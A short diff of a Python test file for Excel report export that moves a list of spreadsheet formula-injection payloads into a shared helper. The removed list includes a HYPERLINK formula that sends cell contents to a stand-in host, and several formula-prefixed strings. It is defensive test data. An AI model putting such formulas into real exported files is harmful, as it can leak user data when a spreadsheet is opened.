@@ -17,17 +17,9 @@ from inspect_cli.publish import publish_force, publish_thematic, suppression_not
 from inspect_cli.read import OUTPUT_MARKER
 from inspect_cli.render.excel_report import write_force_xlsx, write_thematic_xlsx
 from tests.golden import assert_golden
+from tests.helpers.payloads import FORMULA
 
-PAYLOADS = (
-    '=HYPERLINK("http://x/?"&A1,"y")',
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "=1+1",
-    "-5",
-    "\t=1+1",
-    "http://example.com/x",
-)
+PAYLOADS = FORMULA
 THEMATIC_SHEETS = ["Conclusions", "Key findings", "Stages", "Indicators", "Chart", "Provenance"]
 FORCE_SHEETS = [
     "Summary",
